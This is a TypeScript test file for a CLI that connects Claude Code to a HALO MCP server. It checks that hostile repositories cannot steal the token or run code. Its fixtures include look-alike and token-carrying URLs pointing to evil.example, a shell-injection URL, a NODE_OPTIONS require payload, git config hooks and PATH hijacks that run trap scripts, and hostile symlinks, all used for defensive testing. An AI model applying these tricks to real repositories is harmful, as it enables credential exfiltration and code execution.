import { existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { dirname, join } from "node:path";
import { describe, expect, test } from "vitest";
import { cleanPath, type Environment } from "../support/home.ts";
import {
  ACCOUNT,
  APPLY,
  CONNECT,
  callsOf,
  committed,
  contents,
  entryFor,
  expectNoToken,
  fakeClaude,
  flat,
  full,
  ids,
  type Machine,
  names,
  on,
  PROFILE,
  program,
  READS_STDIN,
  start,
  strangeBytes,
  TOKEN,
  untouched,
  VALUES,
  withRecorder,
  withToken,
} from "./support.ts";

/** A repository and a server that mean harm: the token is sent nowhere and written nowhere, and nothing is run. */

const HALO = "https://api.cm.com/halo/core/mcp";
const BRIDGE = ".claude/settings.local.json";
const accepts = (_: IncomingMessage, response: ServerResponse): void => void response.writeHead(200).end("{}");

describe.concurrent("an entry that would lead the token elsewhere", () => {
  /** Secrets of somebody else, and how much of them nobody may see. */
  const theirs = {
    GH_PAT: "ghp-madeup-0123456789",
    DATABASE_URL: "postgres-user-hunter2",
    DEPLOY_THING: "plain-looking-value",
    AWS_SECRET_ACCESS_KEY: "madeup/aws/secret/0123456789",
    GATEWAY: "gateway.example",
  };
  const hidden = /madeup|hunter2|plain-looking|gateway\.example/;
  const byProfile = "https://${HALO_PROFILE_ID:-api.cm.com}/halo/core/mcp";
  const example = (profile: string) => ({ ".env.example": `HALO_ACCOUNT_ID=${ACCOUNT}\nHALO_PROFILE_ID=${profile}\n` });
  /** RECORDER: a server that would take it. OURS: the stand-in, with --url for it. */
  interface Row {
    readonly url?: string;
    readonly header?: string;
    readonly token?: string;
    readonly more?: Readonly<Record<string, unknown>>;
    readonly files?: Readonly<Record<string, string>>;
    readonly env?: Environment;
    readonly args?: readonly string[];
  }
  test.each<[string, Row]>([
    ["a look-alike", { url: "https://api.cm.com.evil.example/halo/core/mcp" }],
    ["another port", { url: "https://api.cm.com:8443/halo/core/mcp" }],
    ["another path", { url: "https://api.cm.com/halo/core/mcp/../../evil" }],
    ["capitals", { url: "https://API.CM.COM/halo/core/mcp" }],
    ["Cyrillic letters", { url: "https://арі.cm.com/halo/core/mcp" }],
    ["an IDN in Punycode", { url: "https://api.xn--m-2ka.com/halo/core/mcp" }],
    ["user:password@", { url: "https://api.cm.com:443@evil.example/halo/core/mcp" }],
    ["a backslash", { url: "https://evil.example\\@api.cm.com/halo/core/mcp" }],
    ["a tab inside", { url: "https://api.cm.com\t.evil.example/halo/core/mcp" }],
    ["http:", { url: "http://api.cm.com/halo/core/mcp" }],
    ["a server of theirs", { url: "RECORDER" }],
    ["a server of theirs by a default", { url: "${NOT_SET:-RECORDER}" }],
    ["the token in its query", { url: "RECORDER?token=${HALO_MCP_TOKEN}" }],
    ["the token as its host", { url: "https://${HALO_MCP_TOKEN}.evil.example/mcp" }],
    ["the token by two steps", { url: "RECORDER/${X:-${HALO_MCP_TOKEN}}" }],
    ["a shell's words", { url: "https://evil.example/'$(touch${IFS}marker)'" }],
    ["a secret of somebody else", { url: "RECORDER/${GH_PAT}/${DATABASE_URL}?k=${DEPLOY_THING}" }],
    ["a secret of somebody else as its host", { url: "https://${GH_PAT}/${DATABASE_URL}" }],
    ["a variable in HALO's own address", { url: "https://${GATEWAY:-api.cm.com}/halo/core/mcp" }],
    ["HALO's own value of the example file", { url: byProfile, files: example("127.0.0.1"), env: withToken }],
    ["HALO's own value of a flag", { url: byProfile, args: ["--profile-id", "127.0.0.1"] }],
    ["HALO's own value of the environment", { url: byProfile, env: { ...VALUES, HALO_PROFILE_ID: "127.0.0.1" } }],
    ["a header with another secret", { header: "${AWS_SECRET_ACCESS_KEY}" }],
    ["a header with another secret as a default", { header: "${TEAM_ID:-${AWS_SECRET_ACCESS_KEY}}" }],
    ["a header with another secret in pieces", { header: "${TEAM_ID:-$}{AWS_SECRET_ACCESS_KEY}" }],
    [
      "a header with another secret, its name from the example file",
      { header: "${TEAM_ID:-$}{${HALO_PROFILE_ID}}", files: example("AWS_SECRET_ACCESS_KEY"), env: withToken },
    ],
    ["a headersHelper", { url: HALO, more: { headersHelper: "touch marker" } }],
    ["a command", { url: HALO, more: { command: "touch", args: ["marker"] } }],
    ["a command, and --url", { more: { command: "touch", args: ["marker"] } }],
    ["the token in NODE_OPTIONS", { token: "NODE_OPTIONS", args: ["--token-stdin"] }],
    ["the token in HTTPS_PROXY", { token: "HTTPS_PROXY", args: ["--token-stdin"] }],
  ])("%s: refused, nothing is sent, written, run or shown", (_, row) =>
    on({}, (m) =>
      withRecorder(accepts, async (evil) => {
        const url = row.url?.replace("RECORDER", evil.url) ?? m.url;
        const entry = entryFor(url, [row.token ?? "HALO_MCP_TOKEN", "HALO_ACCOUNT_ID", "HALO_PROFILE_ID"]);
        const headers = { ...(entry.headers as object), ...(row.header === undefined ? {} : { "X-More": row.header }) };
        committed(m, { ...entry, headers, ...row.more }, "halo", row.files);
        const args = [...(row.url === undefined ? ["--url", m.url] : []), ...(row.args ?? [])];
        const env = { ...theirs, ...(row.env ?? VALUES) };
        await untouched(m, async () => {
          for (const flags of [["--yes"], ["--yes", "--skip-test"], ["--dry-run"], ["--yes", "--json", "--debug"]]) {
            const run = await m.run([...flags, ...args], { env, stdin: TOKEN });
            expect(run.code, run.stdout + run.stderr).toBe(1);
            expectNoToken(run.stdout + run.stderr);
            expect(run.stdout + run.stderr).not.toMatch(hidden);
            // refused by its looks, not by a connection that failed
            expect(run.stderr).not.toContain("Connection test:");
            expect(strangeBytes(run.stdout + run.stderr)).toEqual([]);
            const offered = /--url (\S.*)/.exec(run.stderr.replace(/\n {2}(?=')/, " "))?.[1] ?? "";
            await start("sh", ["-c", `true ${offered}`], { cwd: m.path, env: m.env });
          }
          if (args.length > 0) return;
          const wizard = m.open([], { env });
          // a plain address is asked about, and Enter is a no
          const isAsked = wizard.asks("Send your token to").then(
            () => true,
            () => false,
          );
          if (await isAsked) wizard.press("enter");
          await wizard.ends(1);
          expect(wizard.prose()).not.toMatch(hidden);
        });
        expect(evil.received).toEqual([]);
      }),
    ),
  );

  test("an address of the repository: the explicit yes, or --url with that very URL, and it goes on", () =>
    on({}, async (m) => {
      committed(m, entryFor(m.url));
      const question = `Send your token to ${new URL(m.url).host}?`;
      const no = m.open([], { env: VALUES });
      await untouched(m, async () => {
        await no.follow(`${question}: enter`);
        await no.ends(1);
      });
      const other = ["--yes", "--url", "https://evil.example/halo/core/mcp", "--dry-run", "--skip-test"];
      const replaced = await untouched(m, () => m.run(other, { env: VALUES }));
      expect(replaced.code, replaced.stderr).toBe(0);
      const yes = m.open([], { env: VALUES });
      await yes.follow(`${question}: left enter`, APPLY);
      await yes.ends(0);
      const sent = m.standIn.requests.length;
      expect(sent).toBeGreaterThan(0);
      const run = await m.run(["--yes", "--url", m.url], { env: VALUES });
      expect(run.code, run.stderr).toBe(0);
      expect(m.standIn.requests.length).toBeGreaterThan(sent);
    }));

  test("a header with a value of the team is sent", () =>
    on({}, async (m) => {
      const entry = entryFor(m.url);
      committed(m, { ...entry, headers: { ...(entry.headers as object), "X-Team": "${TEAM_ID}" } });
      const run = await m.run(["--yes", "--url", m.url], { env: { ...VALUES, TEAM_ID: "blue" } });
      expect(run.code, run.stderr).toBe(0);
      expect(m.standIn.requests[0]?.headers["x-team"]).toBe("blue");
    }));

  test("variables in files of the repository choose no endpoint and run nothing", () =>
    on({}, (m) =>
      withRecorder(accepts, async (evil) => {
        m.write(".env", `HALO_MCP_URL=${evil.url}\nHALO_YES=1\nHALO_NAME=evil\nNODE_OPTIONS=--require ./evil.cjs\n`);
        m.write(BRIDGE, JSON.stringify({ env: { HALO_MCP_URL: evil.url } }));
        m.write("evil.cjs", "require('node:fs').writeFileSync('marker', '')");
        const run = await m.run(["--dry-run", "--skip-test", "--json", ...ids], { env: withToken });
        expect(run.code, run.stdout).toBe(0);
        expect(JSON.parse(run.stdout).server).toEqual({ name: "halo", url: HALO });
        expect((await m.run(full(m, "--values-file", ".env"), { env: withToken })).code).toBe(0);
        expect(evil.received).toEqual([]);
        expect(m.exists("marker")).toBe(false);
      }),
    ));

  test.each([["joining"], ["a first run"]])("it changes while the question is open, %s: nothing is written", (kind) =>
    on({}, (m) =>
      withRecorder(accepts, async (evil) => {
        if (kind === "joining") committed(m, entryFor(m.url));
        const wizard = m.open(["--url", m.url, ...ids], { env: withToken });
        await wizard.follow(...(kind === "joining" ? [] : [CONNECT]));
        await wizard.asks("Write th");
        m.write(".mcp.json", JSON.stringify({ mcpServers: { halo: entryFor(evil.url) } }));
        const before = contents(m.tree());
        await wizard.follow(APPLY);
        await wizard.ends(1);
        expect(contents(m.tree())).toEqual(before);
        expect(evil.received).toEqual([]);
      }),
    ),
  );

  test.each([
    [302, "location"],
    [307, "location"],
    [401, "www-authenticate"],
  ])("a server that answers %i with a second origin: that one receives nothing", (status, header) =>
    on({}, (m) =>
      withRecorder(accepts, (second) => {
        const value = header === "location" ? second.url : `Bearer resource_metadata="${second.url}"`;
        const leads = (_: IncomingMessage, response: ServerResponse) =>
          void response.writeHead(status, { [header]: value }).end();
        return withRecorder(leads, async (first) => {
          const run = await m.run(["--yes", "--url", first.url], { env: VALUES });
          expect(run.code).toBe(1);
          expect(first.received.length).toBeGreaterThan(0);
          expect(second.received).toEqual([]);
          expect(names(m.tree())).toEqual([]);
        });
      }),
    ),
  );
});

describe.concurrent("programs of a repository are not run", () => {
  const trap = (m: Machine): string => `echo "$0" >> "${m.root}/trapped"\necho "2.1.330 (Claude Code)"`;
  const bin = "node_modules/.bin";

  test.each<[string, string, string, readonly string[]]>([
    ["at the front of PATH", `ROOT/shop/${bin}`, "shop", []],
    ["at the front of PATH, started below", `ROOT/shop/${bin}`, "shop/packages/web", []],
    ["at the front of PATH, --cwd below", `ROOT/shop/${bin}`, "shop", ["--cwd", "packages/web"]],
    ["by a relative entry", `${bin}:.`, "shop", []],
    ["by an empty entry", "", "shop", []],
    ["by a link from outside", "ROOT/linked", "shop", []],
    [
      "of the repository where it starts, --cwd elsewhere",
      `ROOT/hostile/${bin}`,
      "hostile/deep",
      ["--cwd", "../../shop"],
    ],
    ["of a folder above that is no repository", `ROOT/project/${bin}`, "project/packages/a", []],
  ])("%s", (_, path, cwd, args) =>
    on({}, async (m) => {
      for (const folder of ["shop", "hostile", "project"])
        for (const place of [bin, "."])
          for (const name of ["git", "claude", "node", "env", "which"])
            program(join(m.root, folder, place), name, trap(m));
      for (const folder of ["shop/packages/web", "hostile/deep", "project/packages/a"])
        mkdirSync(join(m.root, folder), { recursive: true });
      m.repo.git("init", "--quiet", join(m.root, "hostile"));
      symlinkSync(join(m.path, bin), join(m.root, "linked"));
      const env = { ...withToken, PATH: `${path.replace("ROOT", m.root)}:${cleanPath()}` };
      const run = await m.run(full(m, ...args), { env, cwd: join(m.root, cwd) });
      expect(run.code, run.stderr).toBe(0);
      expect(flat(run)).toContain("Claude Code is not installed here");
      expect(existsSync(join(m.root, "trapped"))).toBe(false);
    }),
  );

  test("by git: its configuration, and a sparse index whose missing tree it would fetch", () =>
    on({}, async (m) => {
      m.write("a/b/file", "1\n");
      m.write("top", "1\n");
      m.commit();
      m.repo.git("sparse-checkout", "init", "--cone", "--sparse-index");
      m.repo.git("sparse-checkout", "set");
      const id = m.repo.git("rev-parse", "HEAD:a").trim();
      rmSync(join(m.path, ".git/objects", id.slice(0, 2), id.slice(2)));
      const evil = (name: string) => join(program(m.path, name, `echo ${name} >> "${m.root}/trapped"\nexit 1`), name);
      for (const [key, value] of [
        ["core.repositoryFormatVersion", "1"],
        ["extensions.partialClone", "origin"],
        ["remote.origin.promisor", "true"],
        ["remote.origin.url", m.path],
        ["remote.origin.uploadpack", evil("pack")],
        ["core.fsmonitor", evil("monitor")],
        ["core.hooksPath", m.path],
        ["core.pager", evil("pager")],
        ["alias.check-ignore", `!${evil("alias")}`],
        ["include.path", "../evil.config"],
      ] as const)
        m.repo.git("config", key, value);
      const run = await m.run(full(m), { env: withToken });
      expect([0, 3], run.stderr).toContain(run.code);
      expect(existsSync(join(m.root, "trapped"))).toBe(false);
      // it is such a repository: git on its own runs them
      await start("git", ["ls-files", "--error-unmatch", "--", ".env"], { cwd: m.path, env: m.env });
      const { stdout } = await start("sort", ["-u", join(m.root, "trapped")], { cwd: m.path, env: m.env });
      expect(stdout).toBe("monitor\npack\n");
    }));
});

describe.concurrent("links, ignore rules and repositories that would take the token", () => {
  const link = (name: string, to: string) => (m: Machine) => {
    mkdirSync(dirname(join(m.path, name)), { recursive: true });
    symlinkSync(to, join(m.path, name));
  };
  /** The values of a folder below are tracked by a repository above it. */
  const tracked =
    (name: string, ...repositories: readonly string[]) =>
    (m: Machine) => {
      m.write(name, name.endsWith("json") ? "{}\n" : "A=1\n");
      m.commit("--force", name);
      for (const folder of repositories) m.repo.git("init", "--quiet", join(m.path, folder));
    };
  test.each<[string, (m: Machine) => void, string?]>([
    [".env to a tracked file", link(".env", "config.txt")],
    [".env out of the repository", link(".env", "../home/out")],
    [".env dangling, out of the repository", link(".env", "../home/new")],
    [".env into .git", link(".env", ".git/description")],
    [
      ".env to a tracked file by two links",
      (m) => {
        link("link", "config.txt")(m);
        link(".env", "link")(m);
      },
    ],
    ["the bridge to a tracked file", link(BRIDGE, "../config.txt")],
    ["the bridge out of the repository", link(BRIDGE, "../../home/out")],
    [".claude out of the repository", link(".claude", "../tmp")],
    [".claude to a tracked folder", link(".claude", "docs")],
    [".mcp.json out of the repository", link(".mcp.json", "../home/deep/er/file")],
    [".env.example out of the repository", link(".env.example", "../home/deep/er/file")],
    [".gitignore out of the repository", link(".gitignore", "../home/deep/er/file")],
    ["a rule that takes the bridge back in", (m) => m.write(".claude/.gitignore", "!settings.local.json\n")],
    ["a negation behind the rule", (m) => m.write(".gitignore", ".env\n!.env\n")],
    ["the bridge is tracked", tracked(BRIDGE)],
    [".env is tracked by the repository around this one", tracked("inner/.env", "inner"), "inner"],
    ["the bridge is tracked two repositories up", tracked(`mid/inner/${BRIDGE}`, "mid", "mid/inner"), "mid/inner"],
  ])("%s: exit 1, and the token is nowhere", (_, make, below = ".") =>
    on({}, async (m) => {
      m.write("config.txt", "{}\n");
      m.write("docs/settings.local.json", "{}\n");
      m.commit();
      writeFileSync(join(m.home, "out"), "");
      make(m);
      const before = contents(m.tree(m.root));
      for (const flags of [[], ["--skip-test"]]) {
        const run = await m.run(full(m, ...flags), { env: withToken, cwd: join(m.path, below) });
        expect(run.code, run.stdout + run.stderr).toBe(1);
        expectNoToken(run.stdout + run.stderr);
      }
      expect(contents(m.tree(m.root))).toEqual(before);
    }),
  );

  test("the home folder is a repository that tracks .claude.json", () =>
    on({}, async (m) => {
      const store = join(m.home, ".claude.json");
      writeFileSync(store, "{}\n", { mode: 0o600 });
      m.repo.git("init", "--quiet", m.home);
      m.repo.git("-C", m.home, "add", ".claude.json");
      m.repo.git("-C", m.home, "commit", "--quiet", "--message=home");
      const env = { ...withToken, ...fakeClaude(m, [READS_STDIN, `*add-json*) cat > "$HOME/.claude.json" ;;`]) };
      for (const scope of ["user", "local", "project,user"]) {
        const run = await m.run(full(m, "--scope", scope), { env });
        expect(run.code, run.stdout).toBe(1);
        expect(flat(run)).toContain("is tracked by git");
      }
      expect(callsOf(m)).not.toMatch(/add-json(?! --help)/);
      expect(JSON.stringify([...m.tree(m.root)])).not.toContain(TOKEN);
    }));

  test.each<[string, Readonly<Record<string, string>>]>([
    ["negations, overruled by the rules that are added", { ".gitignore": `!.env\n!${BRIDGE}\n` }],
    ["a link inside the repository to an ignored file", { ".gitignore": "private/\n", "private/env": "A=1\n" }],
  ])("%s: written, and git takes none of it", (_, files) =>
    on({}, async (m) => {
      for (const [name, text] of Object.entries(files)) m.write(name, text, 0o600);
      if (m.exists("private")) symlinkSync("private/env", join(m.path, ".env"));
      const run = await m.run(full(m), { env: withToken });
      expect(run.code, run.stderr).toBe(0);
      expect(m.read(m.exists("private") ? "private/env" : ".env")).toContain(`HALO_PROFILE_ID=${PROFILE}\n`);
      m.repo.git("add", "--all");
      expect(m.repo.git("diff", "--cached")).not.toContain(TOKEN);
    }),
  );
});
